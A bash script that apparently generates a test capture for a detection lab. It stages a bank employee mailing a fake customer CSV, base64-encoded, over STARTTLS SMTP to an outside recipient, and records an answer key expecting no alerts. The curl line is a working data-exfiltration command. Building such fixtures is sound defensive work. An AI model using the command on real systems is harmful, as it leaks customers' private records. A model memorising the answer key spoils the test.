#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# make.sh - record a mail after STARTTLS.
here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=/dev/null
. "$here/../make/lab.sh"

table csv accounts 150 >"$LAB/customers.csv"
lab_up
openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj /CN=mx.example \
    -keyout "$LAB/key.pem" -out "$LAB/cert.pem" 2>/dev/null
lab_serve out_ 25 "$PY" "$MAKE/smtpd.py" 198.51.100.25 "$LAB/cert.pem" "$LAB/key.pem"
lab_record "$here/capture.pcap"
in_ curl -sS -k --ssl-reqd smtp://198.51.100.25/pc7.bank.example \
    --mail-from taro@bank.example --mail-rcpt buyer@outside.example \
    -F "=as agreed" -F "file=@$LAB/customers.csv;encoder=base64"
lab_stop
printf '{\n "alerts": 0,\n "customers": 0,\n "unread": "encrypted"\n}\n' \
 \
    >"$here/truth.json"
